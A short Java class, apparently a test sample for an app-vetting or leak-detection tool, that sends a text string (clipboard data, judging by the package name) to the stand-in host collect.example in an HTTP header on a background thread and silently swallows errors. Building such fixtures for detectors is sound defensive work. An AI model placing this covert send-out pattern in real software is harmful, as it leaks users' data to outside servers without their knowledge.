package org.apkvet.clip.to_http_header;

import java.io.*;
import java.net.*;

final class Net implements Runnable {
    private final String text;

    private Net(String text) {
        this.text = text;
    }

    static void send(String text) {
        new Thread(new Net(text)).start();
    }

    @Override
    public void run() {
        try {
            HttpURLConnection connection = (HttpURLConnection) new URL("https://collect.example/ping").openConnection();
            connection.setRequestProperty("X-Text", text);
            connection.getResponseCode();
        } catch (IOException offline) {
            return;
        }
    }
}
